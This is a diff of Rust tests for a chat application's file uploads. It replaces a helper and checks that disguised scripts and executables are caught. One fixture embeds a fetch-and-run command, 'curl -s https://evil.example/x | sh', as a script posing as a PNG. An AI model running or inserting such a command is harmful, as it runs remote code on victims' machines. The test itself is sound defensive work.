@@ -20,17 +20,6 @@ fn chat<'a>(app: &'a TestApp, account: &TestAccount) -> (TestVisitor<'a>, i64) {
     (visitor, conversation)
 }
 
-fn agent_posts(app: &TestApp, account: &TestAccount, conversation: i64, form: Multipart) -> Reply {
-    let path = account.path(&format!("/conversations/{conversation}/messages"));
-    app.send(
-        "POST",
-        &path,
-        account.admin.auth(),
-        Some(form.finish()),
-        &Multipart::content_type(),
-    )
-}
-
 fn visitor_posts(visitor: &TestVisitor, conversation: i64, form: Multipart) -> Reply {
     let path = format!("/conversations/{conversation}/messages");
     visitor.send("POST", &path, form.finish(), &Multipart::content_type())
@@ -68,9 +57,8 @@ fn an_agents_image_and_a_visitors_pdf_reach_both_sides_byte_identical() {
     let mut visitors = visitor_cable(app, &visitor, true);
     let image = png(40, 30);
 
-    let sent = agent_posts(
+    let sent = account.reply_with_files(
         app,
-        &account,
         conversation,
         Multipart::new()
             .text("content", "Here is the map")
@@ -235,9 +223,8 @@ fn a_file_named_png_holding_a_script_is_stored_as_what_it_is() {
     let account = app.create_account();
     let (_, conversation) = chat(app, &account);
     let script = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n";
-    let sent = agent_posts(
+    let sent = account.reply_with_files(
         app,
-        &account,
         conversation,
         Multipart::new().file("attachments[]", "photo.png", "image/png", script),
     );
@@ -293,9 +280,8 @@ fn files_over_the_limits_and_programs_are_refused_and_nothing_is_stored() {
         assert_eq!(reply.status, 422, "{what}: {}", reply.text);
         assert_eq!(reply.body["attributes"], json!(["attachments"]), "{what}");
     }
-    let program_by_agent = agent_posts(
+    let program_by_agent = account.reply_with_files(
         app,
-        &account,
         conversation,
         Multipart::new().file("attachments[]", "tool.exe", "application/x-msdownload", &program),
     );
